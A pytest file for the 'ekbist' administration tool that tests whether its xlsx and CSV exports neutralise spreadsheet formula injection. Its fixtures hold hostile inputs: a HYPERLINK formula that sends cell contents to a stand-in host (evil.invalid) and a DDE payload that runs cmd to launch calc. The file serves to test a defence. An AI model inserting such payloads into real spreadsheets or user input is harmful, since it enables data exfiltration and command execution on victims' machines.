"""No live formula leaves ekbist: every workbook writer and the CSV output, read back."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from ekbist.textcells import FORMULA_STARTS, csv_field, workbook_as_text

HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"Klicka")'
DDE = "=cmd|'/C calc'!A0"
ACTIVITY = "=1+2"


@pytest.fixture
def hostile(cli, demo_stores):
    """A demo unit with formula-like text typed into every free-text field the issue names."""
    demo_stores.copy(cli.db, households=40, months=12, seed=3)
    cli.ok("handler", "add", "hinj", "--name", HYPERLINK, "--team", "intake", "--fte", "1",
           "--start", "2025-01-01")
    cli.ok("handler", "add", "plus", "--name", "+46 70 111", "--team", "intake", "--fte", "1",
           "--start", "2025-01-01")
    cli.ok("case", "open", "X-1", "--handler", "hinj", "--opened", "2026-10-01")
    cli.ok("workdays", "close", "2026-12-15", "--reason", DDE)
    cli.ok("budget", "set", "2026", ACTIVITY, "Personalkostnader", "100000", "--new")
    cli.ok("actuals", "set", "2026", "10", ACTIVITY, "Personalkostnader", "9000")
    return cli


def _cells(path: Path):
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _assert_no_formula(path: Path, *expected: str) -> None:
    seen = set()
    for title, cell in _cells(path):
        assert cell.data_type != "f", (path.name, title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s"
            seen.add(cell.value)
    for text in expected:
        assert text in seen, (path.name, text, seen)


def test_export_writes_formula_like_text_as_text(hostile, tmp_path) -> None:
    out = tmp_path / "all.xlsx"
    hostile.ok("export", "all", str(out))
    _assert_no_formula(out, HYPERLINK, DDE, ACTIVITY, "+46 70 111")


def test_report_workbooks_write_text_as_text(hostile, tmp_path) -> None:
    written = {
        "caseload.xlsx": ["caseload", "history", "--from", "2026-09", "--to", "2026-10", "--xlsx"],
        "coverage.xlsx": ["plans", "coverage", "--xlsx"],
        "handling.xlsx": ["handling-time", "report", "--from", "2026-09-01", "--to", "2026-10-31", "--xlsx"],
        "tertial.xlsx": ["report", "tertial", "--year", "2026", "--tertial", "2", "--xlsx"],
    }
    for name, args in written.items():
        hostile.ok(*args, str(tmp_path / name))
    hostile.ok("prognosis", "make", "--year", "2026", "--month", "10", "--save")
    hostile.ok("prognosis", "export", str(tmp_path / "prognosis.xlsx"), "--year", "2026",
               "--month", "10")
    hostile.ok("template", "all", str(tmp_path / "template.xlsx"))
    _assert_no_formula(tmp_path / "caseload.xlsx", HYPERLINK)
    _assert_no_formula(tmp_path / "prognosis.xlsx", ACTIVITY)
    for name in ("coverage.xlsx", "handling.xlsx", "tertial.xlsx", "template.xlsx"):
        _assert_no_formula(tmp_path / name)


def test_csv_output_neutralises_formulas(hostile) -> None:
    out = hostile.ok("handler", "list", "--format", "csv").output
    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(out))}
    assert names["hinj"] == "'" + HYPERLINK
    assert names["plus"] == "'+46 70 111"
    assert names["h017"] if "h017" in names else True
    closed = hostile.ok("workdays", "closed", "--format", "csv").output
    assert "'" + DDE in closed or "'" + DDE.replace('"', '""') in closed


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Anna", "Anna"), ("a=b", "a=b"), (-44, -44), ("", ""),
])
def test_csv_field(value, expected) -> None:
    assert csv_field(value) == expected


def test_a_built_workbook_keeps_no_formula(tmp_path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "=SUM(1,2)"
    sheet["B1"] = "@x"
    sheet["C1"] = 5
    sheet["XFD1"] = "\t=1"
    workbook_as_text(book)
    book.save(tmp_path / "b.xlsx")
    cells = {c.coordinate: c for _t, c in _cells(tmp_path / "b.xlsx") if c.value is not None}
    assert {k: (c.value, c.data_type) for k, c in cells.items()} == {
        "A1": ("=SUM(1,2)", "s"), "B1": ("@x", "s"), "C1": (5, "n"), "XFD1": ("\t=1", "s")}


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_text_not_a_result(hostile, tmp_path) -> None:
    out = tmp_path / "handlers.xlsx"
    hostile.ok("export", "closed_days", str(out))
    profile = tmp_path / "profile"
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--convert-to", "csv", "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=120)
    text = (tmp_path / "handlers.csv").read_text(encoding="latin-1")
    assert DDE in text


def test_into_the_controllers_workbook_keeps_its_formulas_and_writes_text(store, tmp_path) -> None:
    from datetime import date

    from ekbist import budget, prognosis
    from ekbist.sheets import prognosis_into

    assistance = "Ekonomiskt bistånd/handläggning"
    budget.set_budget(store, 2026, assistance, "Övriga kostnader", 44_400_000)
    for month in (1, 2, 3):
        budget.set_actual(store, 2026, month, assistance, "Övriga kostnader", 3_700_500)
    result = prognosis.make(store, 2026, 3, today=date(2026, 4, 7),
                            comments=[(f"{assistance}:Övriga kostnader", DDE)])
    prognosis.save(store, result, today=date(2026, 4, 7))
    template = Path(__file__).parent / "fixtures" / "controller_template.xlsx"
    out = tmp_path / "prognos.xlsx"
    prognosis_into.write_into(prognosis.saved(store, 2026, 3), template, out)
    sheet = openpyxl.load_workbook(out)["Prognos"]
    assert (sheet["G15"].value, sheet["G15"].data_type) == (DDE, "s")
    # The controller's own formulas are still formulas.
    assert (sheet["B16"].value, sheet["B16"].data_type) == ("=SUM(B6:B9)", "f")
